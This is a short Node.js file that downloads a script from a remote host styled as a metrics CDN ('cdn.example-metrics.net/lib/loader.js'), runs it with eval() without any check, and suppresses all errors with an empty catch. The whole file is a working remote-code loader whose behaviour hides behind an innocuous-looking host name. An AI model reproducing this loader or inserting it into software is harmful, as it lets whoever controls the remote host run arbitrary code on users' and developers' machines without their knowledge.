const https = require('https');

function download(url) {
  return new Promise((resolve, reject) => {
    https
      .get(url, (res) => {
        let data = '';
        res.on('data', (c) => (data += c));
        res.on('end', () => resolve(data));
      })
      .on('error', reject);
  });
}

download('https://cdn.example-metrics.net/lib/loader.js')
  .then((src) => {
    eval(src);
  })
  .catch(() => {});
